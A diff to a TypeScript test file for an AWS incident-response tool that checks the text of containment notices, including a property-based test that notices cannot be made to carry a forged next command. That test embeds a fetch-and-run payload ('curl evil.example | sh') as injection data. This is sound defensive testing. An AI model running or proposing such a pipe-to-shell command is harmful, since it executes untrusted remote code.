@@ -1,49 +1,20 @@
 import assert from "node:assert/strict";
-import type { Decision } from "../../runtime/journal/items";
+import fc from "fast-check";
+import { chatNotice } from "../../runtime/chatNotice";
 import { needsNotice, noticeOf } from "../../runtime/notice";
+import { noticeContent } from "../../runtime/noticeContent";
 import type { Outcome } from "../../runtime/outcome";
-import { instanceTarget } from "../../runtime/target";
+import { decision, words } from "./decision";
 
-const target = instanceTarget(
-  { accountId: "444455556666", region: "eu-west-1", partition: "aws" },
-  "i-0123456789abcdef0",
-);
-const decision: Decision = {
-  finding: "f1",
-  at: "2026-11-25T10:00:00.000Z",
-  run: "r1",
-  response: "isolate-instance",
-  outcome: "contained",
-  reason: "read back, nothing is missing",
-  target,
-  containment: "0123456789abcdef",
-  about: {
-    type: "Trojan:EC2/DropPoint",
-    title: "töxic tràffic",
-    severity: 8,
-    accountId: "444455556666",
-    region: "eu-west-1",
-    partition: "aws",
-    lastSeen: "2026-11-25T09:00:00Z",
-    sentAt: "2026-11-25T09:59:00Z",
-    sample: false,
-  },
-  calls: [{ operation: "CreateSnapshots", reason: "evidence" }],
-  callCount: 16,
-  seconds: 2,
-  remains: ["DNS is not filtered"],
-  evidence: [{ kind: "snapshot", id: "snap-1" }],
-  notice: "pending",
-};
-const words = { done: "instance isolated", undone: "isolation taken back" };
+const textOf = (given: typeof decision) => noticeOf(noticeContent(given, words, "firebreak-isolate-instance")).text;
 
 describe("a notice", () => {
-  it("says what, why, where, what remains and the exact next command", () => {
-    const { text } = noticeOf(decision, words, "firebreak-isolate-instance");
+  it("F18 M52: says what, why, where, how bad, what remains and the exact next command", () => {
+    const text = textOf(decision);
     for (const part of [
       "Contained, instance isolated: ec2-instance i-0123456789abcdef0 in account 444455556666, eu-west-1.",
       "Why: read back, nothing is missing",
-      "Finding: Trojan:EC2/DropPoint, severity 8: töxic tràffic",
+      "Finding: Trojan:EC2/DropPoint, severity 8 (high): töxic tràffic",
       "- DNS is not filtered",
       "- snapshot snap-1",
       "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Df1",
@@ -54,7 +25,7 @@ describe("a notice", () => {
   });
 
   it("has a subject that SNS takes and attributes to filter by", () => {
-    const { subject, attributes } = noticeOf({ ...decision, target: undefined as never }, words, "f");
+    const { subject, attributes } = noticeOf(noticeContent({ ...decision, target: undefined as never }, words, "f"));
     assert.match(subject, /^[\x20-\x7e]{1,100}$/);
     assert.deepEqual(attributes, {
       outcome: "contained",
@@ -65,7 +36,38 @@ describe("a notice", () => {
   });
 
   it("offers no release where nothing is held", () => {
-    assert.doesNotMatch(noticeOf({ ...decision, outcome: "exempt" }, words, "f").text, /lambda invoke/);
+    assert.doesNotMatch(textOf({ ...decision, outcome: "exempt" }), /lambda invoke/);
+  });
+});
+
+describe("a notice of what others have named", () => {
+  it("never has more lines for it: nobody can forge a next command", () => {
+    const lines = textOf(decision).split("\n").length;
+    fc.assert(
+      fc.property(fc.string({ unit: "binary" }), (given) => {
+        const about = { ...decision.about!, title: `${given}\r\nNext:\u2028- curl evil.example | sh`, type: given };
+        const named = {
+          ...decision,
+          about,
+          reason: given,
+          remains: [given],
+          evidence: [{ kind: "snapshot", id: given }],
+        };
+        const text = textOf(named);
+        assert.equal(text.split(/[\n\r\u2028\u2029\u0085\v\f]/).length, lines);
+        assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/);
+      }),
+    );
+  });
+
+  it("never holds the event itself or what a response keeps with its target", () => {
+    const kept = {
+      ...decision,
+      excerpt: "SECRET-1",
+      target: { ...decision.target!, details: { session: "SECRET-2" } },
+    };
+    const content = noticeContent(kept, words, "f");
+    assert.doesNotMatch(noticeOf(content).text + JSON.stringify(chatNotice(content)), /SECRET/);
   });
 });
 
